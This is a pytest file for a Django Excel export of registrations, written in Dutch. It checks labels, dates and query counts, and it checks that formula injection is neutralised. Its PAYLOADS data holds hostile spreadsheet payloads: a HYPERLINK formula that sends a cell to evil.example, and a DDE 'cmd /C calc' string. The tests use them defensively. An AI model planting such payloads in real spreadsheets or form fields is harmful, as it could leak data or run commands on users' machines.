"""The registrations export, read back with openpyxl as a coordinator would open it."""
import io
import zipfile
from datetime import UTC, datetime

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl.utils.escape import unescape

from partnerschappen.models import Lidmaatschap, Partnerschap
from registraties.excel.columns import RegistratieResource
from registraties.excel.export import registraties_export
from registraties.models import Registratie
from tests.excel.conftest import cells_by_header, read_sheet
from tests.factories import make_registratie, make_registraties

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "naam": '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
    "contact_telefoon": "+32 9 123 45 67",
    "opmerkingen": "@SUM(1+9)*cmd|' /C calc'!A0",
    "keten": "-2+3",
    "gewenste_partners": "\t=1+1",
    "sectoren": "\r=2+2",
    "contact_functie": "'al een apostrof",
}


def export_bytes(queryset=None) -> bytes:
    buffer = io.BytesIO()
    registraties_export(queryset=queryset, target=buffer)
    return buffer.getvalue()


def test_export_has_dutch_headers_for_every_column(open_ronde):
    make_registratie(open_ronde)
    headers, rows = read_sheet(export_bytes())
    assert headers == RegistratieResource().get_export_headers()
    for header in ("Referentie", "Naam organisatie", "Ondernemingsnummer", "Rechtsvorm",
                   "Thema's", "Acties binnen een partnerschap", "Status",
                   "Status gewijzigd door", "Status gewijzigd op", "Aandachtspunten",
                   "Partnerschappen", "Ingediend op"):
        assert header in headers
    assert len(rows) == 1


def test_choices_are_exported_as_labels_and_lists_joined_readably(open_ronde):
    make_registratie(open_ronde, rechtsvorm="vzw", type_organisatie="sectorfonds",
                     themas=["behoeftedetectie", "doorgroei"], vaardigheden=["digitaal", "groen"],
                     rollen=["regie", "competentiechecks"], postcode="9000", gemeente="Gent",
                     werking_vlaanderen=True)
    _, [row] = read_sheet(export_bytes())
    assert row["Rechtsvorm"] == "vzw (vereniging zonder winstoogmerk)"
    assert row["Type organisatie"] == "sectorfonds"
    assert row["Thema's"] == ("behoeftedetectie, op weg naar een opleidingsplan; "
                              "doorgroei van werknemers naar andere functies")
    assert row["Generieke vaardigheden"] == "digitale vaardigheden; groene vaardigheden"
    assert row["Acties binnen een partnerschap"] == ("samenwerking (regierol); "
                                                     "opzetten competentiechecks")
    assert row["Gewest"] == "Vlaams Gewest"
    assert row["Provincie"] == "Oost-Vlaanderen"
    assert row["Werking in Vlaanderen"] == "ja"
    assert row["Status"] == "ingediend"


def test_enterprise_number_is_text_in_dotted_form(open_ronde):
    make_registratie(open_ronde, ondernemingsnummer="0417497106")
    [cells] = cells_by_header(export_bytes())
    assert cells["Ondernemingsnummer"].value == "0417.497.106"
    assert cells["Ondernemingsnummer"].data_type == "s"


def test_numbers_keep_their_type(open_ronde):
    make_registratie(open_ronde, aantal_ondernemingen=250, aandeel_kleine_ondernemingen=80)
    [cells] = cells_by_header(export_bytes())
    assert cells["Aantal bereikte ondernemingen"].value == 250
    assert cells["Aantal bereikte ondernemingen"].data_type == "n"
    assert cells["Aandeel kleine ondernemingen (%)"].value == 80


def test_formula_payloads_arrive_inert_as_text_marked_by_the_quote_prefix(open_ronde):
    make_registratie(open_ronde, **PAYLOADS)
    content = export_bytes()
    [cells] = cells_by_header(content)
    resource = RegistratieResource()
    for name, payload in PAYLOADS.items():
        cell = cells[str(resource.fields[name].column_name)]
        assert cell.data_type == "s", name
        # A formula-like text shows as typed, marked as text by the quote-prefix style; a text
        # that itself starts with an apostrophe keeps the added one (read back by restore()).
        # openpyxl leaves OOXML's escape of a carriage return (_x000D_) as it is; Excel does not.
        if payload.startswith("'"):
            assert unescape(cell.value) == "'" + payload, name
        else:
            assert (unescape(cell.value), cell.quotePrefix) == (payload, True), name
    # No formula anywhere in the sheet's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_dates_are_real_dates_in_brussels_time(open_ronde, coordinator):
    registratie = make_registratie(open_ronde)
    Registratie.objects.filter(pk=registratie.pk).update(
        ingediend_op=datetime(2021, 7, 1, 10, 30, tzinfo=UTC),  # summer: UTC+2
        status="ontvankelijk", status_gewijzigd_door=coordinator,
        status_gewijzigd_op=datetime(2021, 12, 1, 10, 0, tzinfo=UTC),  # winter: UTC+1
    )
    [cells] = cells_by_header(export_bytes())
    assert cells["Ingediend op"].value == datetime(2021, 7, 1, 12, 30)
    assert cells["Ingediend op"].is_date
    assert cells["Status gewijzigd op"].value == datetime(2021, 12, 1, 11, 0)
    assert cells["Status"].value == "ontvankelijk"
    assert cells["Status gewijzigd door"].value == "Cora Coördinator"


def test_flags_and_partnerships_are_exported_by_name(open_ronde):
    registratie = make_registratie(open_ronde, postcode="1000", gemeente="Brussel",
                                   toelichting_werking="Vooral Vlaamse kmo's.",
                                   rechtsvorm="vzw", type_organisatie="sectorfonds",
                                   aandeel_kleine_ondernemingen=30, kbo_controle="geverifieerd")
    for naam in ("Bouw en renovatie", "Digitale bouwplannen"):
        partnerschap = Partnerschap.objects.create(naam=naam, ronde=open_ronde)
        Lidmaatschap.objects.create(partnerschap=partnerschap, registratie=registratie)
    _, [row] = read_sheet(export_bytes())
    assert row["Aandachtspunten"] == (
        "Zetel in Brussel: nagaan of de werking vooral op de Vlaamse arbeidsmarkt gericht is; "
        "Minder dan de helft van de bereikte ondernemingen is klein (≤ 50 werknemers)")
    assert row["Partnerschappen"] == "Bouw en renovatie; Digitale bouwplannen"


def test_export_query_count_does_not_grow_with_the_rows(open_ronde, django_assert_max_num_queries):
    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as captured:
            export_bytes()
        return len(captured)

    registraties = make_registraties(open_ronde, 3, seed=1)
    partnerschap = Partnerschap.objects.create(naam="P", ronde=open_ronde)
    Lidmaatschap.objects.create(partnerschap=partnerschap, registratie=registraties[0])
    few = queries_for_export()
    more = make_registraties(open_ronde, 30, seed=2)
    for registratie in more[:10]:
        Lidmaatschap.objects.create(partnerschap=partnerschap, registratie=registratie)
    assert queries_for_export() == few
    with django_assert_max_num_queries(3):
        export_bytes()


@pytest.fixture
def other_ronde(closed_ronde):
    # Two rounds opening in the same year need distinct prefixes for their references.
    closed_ronde.referentie_prefix = "OUD"
    closed_ronde.save()
    return closed_ronde


def test_command_writes_the_registrations_of_one_round(open_ronde, other_ronde, tmp_path):
    mine = make_registratie(open_ronde)
    make_registratie(other_ronde)
    target = tmp_path / "registraties.xlsx"
    out = io.StringIO()
    call_command("export_registraties", str(target), "--ronde", open_ronde.slug, stdout=out)
    _, rows = read_sheet(str(target))
    assert [row["Referentie"] for row in rows] == [mine.referentie]
    assert "1 registratie(s) geschreven" in out.getvalue()
    assert "persoonsgegevens" in out.getvalue()


def test_command_without_round_writes_all_registrations(open_ronde, other_ronde, tmp_path):
    make_registratie(open_ronde)
    make_registratie(other_ronde)
    target = tmp_path / "alles.xlsx"
    call_command("export_registraties", str(target), stdout=io.StringIO())
    assert len(read_sheet(str(target))[1]) == 2


def test_command_names_the_existing_rounds_for_an_unknown_slug(open_ronde, tmp_path):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="Geen ronde met slug 'bestaat-niet'.*testronde"):
        call_command("export_registraties", str(tmp_path / "x.xlsx"), "--ronde", "bestaat-niet")


def test_the_resources_own_export_is_neutralised_too(open_ronde):
    make_registratie(open_ronde, naam="=1+1", ondernemingsnummer="0417497106")
    dataset = RegistratieResource().export(Registratie.objects.all())
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["Naam organisatie"] == "'=1+1"
    assert row["Ondernemingsnummer"] == "0417.497.106"
